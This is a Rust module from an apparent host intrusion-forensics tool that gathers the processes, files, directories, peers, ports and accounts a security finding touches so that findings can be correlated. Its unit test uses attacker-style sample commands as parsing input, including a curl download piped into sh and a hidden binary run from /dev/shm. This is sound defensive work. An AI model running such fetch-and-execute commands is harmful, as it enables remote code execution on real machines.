//! What a finding touches: the things by which findings are joined.

use super::site::Site;
use super::{time, tree};
use crate::stay::{self, Stay};
use crate::{place, standing};
use keeneye_facts::{Autostart, FdTarget, Finding, Interest, Process, ProcessId, Protocol, SocketState, Subject, Text};
use std::collections::BTreeSet;
use std::net::IpAddr;

/// A finding that names more processes than this speaks of all of them in general.
const MAX_RELATED: usize = 4;
/// Descriptors, arguments and connections of a process that are looked at.
const MAX_PARTS: usize = 64;
/// A process that talks to more addresses than this is a server, and its clients join nobody.
const MAX_PEERS: usize = 16;

/// A thing that two findings can share.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(super) enum Key {
    /// The topmost process of a tree.
    Tree(ProcessId),
    /// A session whose leader is gone.
    Session(i32),
    /// A file.
    File(Text),
    /// A directory of somebody's own.
    Directory(Text),
    /// Content.
    Content(String),
    /// Another thing, by kind and name: a module, an account.
    Thing(String, Text),
    /// The control group of a service.
    Group(Text),
    /// A machine that is talked to, or that an odd login came from.
    Peer(IpAddr),
    /// A port of this machine.
    Port(Option<String>, u16),
}

/// What a finding touches.
#[derive(Debug, Default)]
pub(super) struct Touch {
    /// Joins whatever shares it.
    pub(super) keys: BTreeSet<Key>,
    /// Joins alerts only.
    pub(super) loose: BTreeSet<Key>,
    /// Accounts that it is about.
    pub(super) about: BTreeSet<Text>,
    /// Accounts that its processes, entries and files belong to.
    pub(super) runs_as: BTreeSet<Text>,
    /// Processes, also those that execute its file.
    pub(super) processes: BTreeSet<ProcessId>,
    /// Files that are not as a package brought them.
    pub(super) files: BTreeSet<Text>,
    /// Entries that start its files, or that it is about; by place in the world.
    pub(super) entries: BTreeSet<usize>,
    /// A script that a web server would run.
    pub(super) web: bool,
    /// The time in which the login lasted that it is about.
    pub(super) stay: Option<Stay>,
    /// When its first trace was left; `None` for what is only known to be so now.
    pub(super) first: Option<i64>,
}

/// Gathers it.
pub(super) fn touch(site: &Site<'_>, finding: &Finding) -> Touch {
    let mut touch = Touch::default();
    touch.subject(site, &finding.subject);
    let crowd = finding.related.iter().filter(|subject| subject.process.is_some()).count() > MAX_RELATED;
    for subject in finding.related.iter().filter(|subject| subject.process.is_none() || !crowd) {
        touch.subject(site, subject);
    }
    touch.login(site, finding);
    touch.web =
        touch.files.iter().filter_map(|path| site.world.file(path)).any(|f| f.interests.contains(&Interest::Web));
    let own = finding.subject.process.and_then(|id| site.process(id)).map(standing::program_path);
    let paths = finding.subject.path.iter().chain(own);
    touch.first = time::first_trace(site, finding, paths);
    touch.runs_as.remove(&Text::from("root"));
    touch.about.remove(&Text::from("root"));
    touch
}

impl Touch {
    /// The other happened while the login lasted that this one is about, and bears the name of nobody else. What is
    /// root's bears no name; but another login is somebody's.
    pub(super) fn stays_through(&self, other: &Self) -> bool {
        let in_time = self.stay.zip(other.first).is_some_and(|(stay, first)| stay.has(first));
        let mut names = other.about.iter().chain(&other.runs_as).peekable();
        in_time && (names.peek().is_none() && other.stay.is_none() || names.any(|name| self.about.contains(name)))
    }

    /// An odd login: its address, the time that it lasted, and accounts that were made in it.
    fn login(&mut self, site: &Site<'_>, finding: &Finding) {
        if finding.subject.kind == "address" {
            self.keys.extend(keeneye_facts::address(&finding.subject.name).map(Key::Peer));
        }
        let Some(login) = site.login_of(finding) else { return };
        self.stay = Some(Stay::of(login));
        self.keys.extend(site.strange_address(login).map(Key::Peer));
        self.about.extend(stay::made(site.world, login).into_iter().cloned());
    }

    fn subject(&mut self, site: &Site<'_>, subject: &Subject) {
        if let Some(process) = subject.process.and_then(|id| site.process(id)) {
            self.process(site, process);
        }
        let named = subject.path.as_ref().filter(|path| !path.is_empty());
        if let (Some(path), None) = (named, subject.process) {
            match pid_of(path).and_then(|pid| site.world.process(pid)) {
                Some(process) => self.process(site, process),
                None => self.file(site, path, subject.line),
            }
        }
        if let Some(port) = subject.port {
            self.port(site, subject, port);
        }
        if let Some(account) = &subject.account {
            self.about.insert(account.clone());
        }
        if named.is_none() && subject.process.is_none() && subject.port.is_none() && !subject.name.is_empty() {
            self.keys.insert(Key::Thing(subject.kind.clone(), subject.name.clone()));
            let is_it = |entry: &Autostart| entry.programs.is_empty() && entry.name == subject.name;
            let entries = site.world.autostarts.iter().enumerate().filter(|(_, entry)| is_it(entry));
            self.entries.extend(entries.map(|(index, _)| index));
        }
    }

    /// A process: its tree, its files, whom it talks to, whose it is.
    fn process(&mut self, site: &Site<'_>, process: &Process) {
        if !self.processes.insert(process.id) {
            return;
        }
        self.keys.insert(Key::Tree(tree::top(site, process)));
        self.keys.extend(tree::left_session(site, process).map(Key::Session));
        self.loose.extend(tree::service_group(site, process).cloned().map(Key::Group));
        self.runs_as.extend(site.account(process.uid()).cloned());
        let on_host = process.exe.as_ref().is_some_and(|exe| exe.at_path == Some(true) || exe.deleted);
        if on_host {
            for path in [standing::program_path(process), process.exe_path()] {
                if path.starts_with(b"/") && !path.starts_with(b"/memfd:") && site.is_own(path) {
                    self.file(site, path, None);
                }
            }
        }
        let digest = process.exe.as_ref().and_then(|exe| exe.digest.as_ref());
        self.keys.extend(digest.map(|digest| Key::Content(digest.sha256.clone())));
        for mapping in process.mappings.iter().filter(|m| m.is_of_library()).take(MAX_PARTS) {
            let unowned = mapping.deleted || site.world.owner(&mapping.path).is_unowned();
            if unowned && !site.loaders(&mapping.path).is_empty() {
                self.keys.insert(Key::File(mapping.path.clone()));
            }
        }
        self.places(site, process);
        self.peers(site, process);
    }

    /// Directories of somebody's own that it stands in, holds files of or was told of.
    fn places(&mut self, site: &Site<'_>, process: &Process) {
        let below_cwd = process.cwd.iter().map(|cwd| cwd.join("."));
        let held = process.fds.iter().filter_map(|fd| match &fd.target {
            FdTarget::File { path, .. } => Some(path.clone()),
            _ => None,
        });
        let told = process.cmdline.iter().skip(1).flat_map(paths_in);
        let all = below_cwd.chain(held.take(MAX_PARTS)).chain(told.take(MAX_PARTS));
        let own: BTreeSet<Key> = all.filter_map(|path| tree::own_directory(site, &path)).map(Key::Directory).collect();
        self.keys.extend(own);
    }

    fn peers(&mut self, site: &Site<'_>, process: &Process) {
        let serves = site.world.exe_owner(process).is_owned_unchanged();
        let sockets = standing::sockets_of(site.world, process);
        let own: BTreeSet<u16> =
            sockets.iter().filter(|s| s.state == SocketState::Listening).filter_map(|s| Some(s.local?.port)).collect();
        let peers: BTreeSet<IpAddr> = sockets
            .iter()
            .filter(|s| s.state == SocketState::Established && matches!(s.protocol, Protocol::Tcp | Protocol::Udp))
            .filter(|s| !(serves && s.local.is_some_and(|local| own.contains(&local.port))))
            .filter_map(|s| Some(s.remote?.ip.to_canonical()))
            .filter(|ip| !ip.is_loopback() && !ip.is_unspecified())
            .collect();
        if peers.len() <= MAX_PEERS {
            self.loose.extend(peers.into_iter().map(Key::Peer));
        }
    }

    /// A file: what runs it, what starts it, what it starts, what it is about.
    fn file(&mut self, site: &Site<'_>, path: &Text, line: Option<u32>) {
        self.one_file(site, path);
        let standing_in: Vec<usize> = site.entries_in(path, line).collect();
        for index in standing_in {
            self.entry(site, index);
        }
        if site.is_own(path) {
            for index in site.starters(path) {
                self.entries.insert(*index);
                let entry = site.entry(*index).filter(|entry| !site.world.owner(&entry.path).is_owned());
                self.keys.extend(entry.map(|entry| Key::File(entry.path.clone())));
            }
        }
        self.accounts(site, path, line);
    }

    fn one_file(&mut self, site: &Site<'_>, path: &Text) {
        if !self.files.insert(path.clone()) {
            return;
        }
        self.keys.insert(Key::File(path.clone()));
        let own = tree::own_directory(site, path);
        if own.is_none() && place::is_home_dot_dir(path, &site.world.accounts) {
            self.loose.insert(Key::Directory(path.parent().into()));
        }
        self.keys.extend(own.map(Key::Directory));
        let Some(fact) = site.world.file(path) else { return };
        if !site.is_own(path) {
            return;
        }
        let digest = fact.digest.as_ref().filter(|digest| digest.size > 0 && fact.owner.is_unowned());
        if let Some(digest) = digest.filter(|digest| !site.is_packaged_content(&digest.sha256)) {
            self.keys.insert(Key::Content(digest.sha256.clone()));
        }
        self.runs_as.extend(fact.stat.and_then(|stat| site.account(stat.uid)).cloned());
        let users = [site.runners(path), site.loaders(path)].into_iter().filter(|users| users.len() <= MAX_RELATED);
        for process in users.flatten().filter_map(|id| site.process(*id)) {
            self.processes.insert(process.id);
            self.keys.insert(Key::Tree(tree::top(site, process)));
        }
    }

    /// An entry that the finding is about: what it starts.
    fn entry(&mut self, site: &Site<'_>, index: usize) {
        let Some(entry) = site.entry(index).filter(|_| self.entries.insert(index)) else { return };
        self.runs_as.extend(entry.user.clone());
        for program in entry.programs.iter().filter(|program| site.is_own(program)) {
            self.one_file(site, program);
        }
        for path in paths_in(&entry.command).take(MAX_PARTS) {
            self.keys.extend(tree::own_directory(site, &path).map(Key::Directory));
            if place::is_volatile(&path) {
                self.keys.insert(Key::File(path));
            }
        }
    }

    fn port(&mut self, site: &Site<'_>, subject: &Subject, port: u16) {
        self.loose.insert(Key::Port(subject.protocol.clone(), port));
        let holders = site.listeners(port);
        if subject.process.is_none() && holders.len() <= MAX_RELATED {
            holders.filter_map(|id| site.process(id)).for_each(|holder| self.process(site, holder));
        }
    }

    /// Accounts that a line of an account file speaks of.
    fn accounts(&mut self, site: &Site<'_>, path: &Text, line: Option<u32>) {
        let world = site.world;
        let here = |at: &Text, number: u32| at == path && line.is_none_or(|line| line == number);
        let keys = world.authorized_keys.iter().filter(|key| here(&key.path, key.line)).map(|key| &key.account);
        let rules = world.sudo_rules.iter().filter(|rule| here(&rule.path, rule.line)).map(|rule| &rule.who);
        let listed = if *path == "/etc/passwd" { world.accounts.as_slice() } else { &[] };
        let users = listed.iter().filter(|account| line == Some(account.line)).map(|account| &account.name);
        self.about.extend(keys.chain(rules).chain(users).filter(|name| !name.is_empty()).cloned());
    }
}

/// The process that a path below /proc belongs to.
fn pid_of(path: &Text) -> Option<u32> {
    let rest = path.strip_prefix(b"/proc/")?;
    std::str::from_utf8(rest.split(|b| *b == b'/').next()?).ok()?.parse().ok()
}

/// Absolute paths in an argument or a command: what begins with a slash behind a blank, a quote, `=`, `:` or a
/// redirection.
fn paths_in(command: &Text) -> impl Iterator<Item = Text> + '_ {
    let breaks = |b: &u8| b.is_ascii_whitespace() || b"'\"=:;|&<>()`,".contains(b);
    command.split(breaks).filter(|word| word.len() > 1 && word.starts_with(b"/")).map(Text::from)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_in_commands() {
        let paths = |command: &str| paths_in(&command.into()).map(|p| p.lossy().into_owned()).collect::<Vec<_>>();
        assert_eq!(paths("sh -c '/dev/shm/.x/k >/tmp/o 2>&1'"), ["/dev/shm/.x/k", "/tmp/o"]);
        assert_eq!(paths("A=/x/y curl http://h/p | sh"), ["/x/y", "//h/p"]);
        assert!(paths("true / relative/path").is_empty());
    }
    #[test]
    fn processes_of_paths() {
        assert_eq!(pid_of(&"/proc/41/exe".into()), Some(41));
        assert_eq!(pid_of(&"/proc/sys".into()), None);
        assert_eq!(pid_of(&"/procs/1".into()), None);
    }
}
